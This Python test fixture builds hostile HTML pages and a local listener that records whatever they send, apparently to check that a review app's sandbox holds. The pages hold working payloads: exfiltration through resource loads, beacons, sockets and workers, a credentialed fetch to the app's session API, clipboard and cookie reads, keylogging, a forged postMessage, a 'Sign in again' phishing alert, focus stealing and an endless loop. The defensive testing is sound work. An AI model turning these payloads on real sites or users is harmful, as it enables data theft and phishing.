"""Web pages that were handed in to do harm: what each tries, with an address that hears whatever leaves."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress

BARE = "a connection"
_HEAD = "<!doctype html><meta charset=utf-8><title>A list</title><body><h1>A list of farms</h1>"
# Everything that a page without scripts could have fetched, followed or sent by itself.
_MARKUP = """
<link rel="stylesheet" href="{at}/style"><link rel="icon" href="{at}/icon">
<link rel="manifest" href="{at}/manifest">
<link rel="preload" as="image" href="{at}/preload"><link rel="prefetch" href="{at}/prefetch">
<link rel="modulepreload" href="{at}/module">
<style>@import url({at}/import); @font-face {{ font-family: f; src: url({at}/font); }}
h1 {{ font-family: f; background: url({at}/background); }} body::after {{ content: url({at}/content); }}</style>
<img src="{at}/img" srcset="{at}/srcset 2x"><video src="{at}/video" poster="{at}/poster" autoplay></video>
<audio src="{at}/audio" autoplay></audio><iframe src="{at}/frame"></iframe>
<iframe srcdoc="<img src='{at}/srcdoc'>"></iframe><object data="{at}/object"></object><embed src="{at}/embed">
<input type="image" src="{at}/input" autofocus>
<svg width="9" height="9"><image href="{at}/svg-image" width="9" height="9"/><use href="{at}/use#a"/></svg>
<table background="{at}/table"><tr><td>1</td></tr></table><a id="link" href="{at}/link" ping="{at}/ping">A link</a>
<a id="top" target="_top" href="{at}/top">Out</a><a id="popup" target="_blank" href="{at}/popup">A window</a>
<form id="form" action="{at}/form" method="post"><input name="a" value="b"><button id="send">Send</button></form>
<form id="form-top" action="{at}/form-top" target="_top"><button id="send-top">Send</button></form>
<img name="getSelection"><img name="body"><form name="addEventListener"></form><img name="documentElement">
"""
_CONNECT = """<link rel="preconnect" href="{at}"><link rel="dns-prefetch" href="{at}">
<iframe srcdoc='<link rel="preconnect" href="{at}">'></iframe>"""
# What scripts try; what comes of each is written on the page, which alone can be seen of it.
_SCRIPTS = """
<pre id="said"></pre><script>
const said = {{}};
const show = () => {{ document.querySelector("#said").textContent = JSON.stringify(said); }};
const tried = (name, what) => {{
  try {{ said[name] = String(what()).slice(0, 60); }} catch (error) {{ said[name] = error.name; }}
}};
tried("cookie", () => document.cookie);
tried("setCookie", () => {{ document.cookie = "a=b"; return "set"; }});
tried("localStorage", () => localStorage.length);
tried("sessionStorage", () => sessionStorage.length);
tried("indexedDB", () => indexedDB.open("a"));
tried("caches", () => caches.keys());
tried("worker", () => navigator.serviceWorker.register("/a.js"));
tried("parent", () => parent.document.title);
tried("parentLocation", () => parent.location.href);
tried("frameElement", () => frameElement);
tried("top", () => {{ top.location = "{at}/top"; return "went"; }});
tried("popup", () => window.open("{at}/popup"));
tried("alert", () => alert("Sign in again"));
tried("origin", () => self.origin);
tried("referrer", () => document.referrer);
const later = (name, promise) => Promise.resolve().then(promise).then((all) => {{ said[name] = String(all); }},
  (error) => {{ said[name] = error.name; }}).finally(show);
later("fetch", () => fetch("{at}/fetch"));
later("noCors", () => fetch("{at}/no-cors", {{ mode: "no-cors" }}));
later("app", () => fetch("{app}/api/session", {{ credentials: "include" }}));
later("clipboard", () => navigator.clipboard.readText());
later("position", () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)));
tried("beacon", () => navigator.sendBeacon("{at}/beacon", "x"));
tried("socket", () => new WebSocket("{socket}"));
tried("events", () => new EventSource("{at}/events"));
tried("image", () => {{ new Image().src = "{at}/image"; return "asked"; }});
tried("script", () => {{
  const s = document.createElement("script"); s.src = "{at}/script"; document.body.append(s); }});
tried("workerFetch", () => {{
  const code = `fetch("{at}/worker"); importScripts("{at}/imported");`;
  new Worker(URL.createObjectURL(new Blob([code])));
}});
tried("form", () => document.querySelector("form").submit());
tried("message", () => {{
  parent.postMessage({{ leave: true, selected: "forged", found: {{ at: 1, count: 1 }} }}, "*");
}});
addEventListener("keydown", (event) => {{ said.keys = (said.keys ?? "") + event.key; show(); }}, true);
show();
</script><button id="go" onclick="location = '{at}/self'">Go</button>"""
_THIEF = """<input id="in"><script>
setInterval(() => {{ window.focus(); document.querySelector("#in").focus(); }}, 50);
</script>"""
_ENDLESS = "<p>Endless</p><script>for (;;) {{ }}</script>"
_REFRESH = '<meta http-equiv="refresh" content="0; url={at}/refresh"><p>Refreshed</p>'
_FRAMES = '<p>Nested</p><iframe src="{app}/"></iframe><iframe src="javascript:parent.document.title=1"></iframe>'
_TEMPLATES = {
    "markup.html": _HEAD + _MARKUP + _CONNECT + _SCRIPTS,
    "refresh.html": _HEAD + _REFRESH,
    "frames.html": _HEAD + _FRAMES,
    "scripts.html": _HEAD + _MARKUP + _SCRIPTS,
    "thief.html": _HEAD + _THIEF,
    "endless.html": _HEAD + _ENDLESS,
}


def attacks(at: str, app: str) -> dict[str, tuple[bytes, str]]:
    """The pages by name; `at`: an origin that hears what leaves, `app`: of the review app."""
    host = at.removeprefix("http://")
    values = {"at": at, "app": app, "socket": f"ws://{host}/socket"}
    return {name: (text.format(**values).encode(), "text/html") for name, text in _TEMPLATES.items()}


class Elsewhere:
    """A port on which whatever comes is noted, connections too."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.origin = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        self.heard: list[str] = []
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    def _listen(self) -> None:
        while True:
            try:
                line, _ = self._socket.accept()
            except OSError:
                return
            self.heard.append(BARE)
            threading.Thread(target=self._hear, args=(line,), daemon=True).start()

    def _hear(self, line: socket.socket) -> None:
        with line, suppress(OSError):
            line.settimeout(60)
            if said := line.recv(200):
                self.heard.append(said.decode("latin-1").split("\r\n")[0])
                line.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    def settle(self) -> None:
        """Forget what came, once nothing comes any more."""
        known = -1
        while known != len(self.heard):
            known = len(self.heard)
            time.sleep(0.5)
        self.heard.clear()

    def close(self) -> None:
        """Hear no more."""
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()


@contextmanager
def elsewhere() -> Iterator[Elsewhere]:
    """Somebody else's server."""
    one = Elsewhere()
    try:
        yield one
    finally:
        one.close()
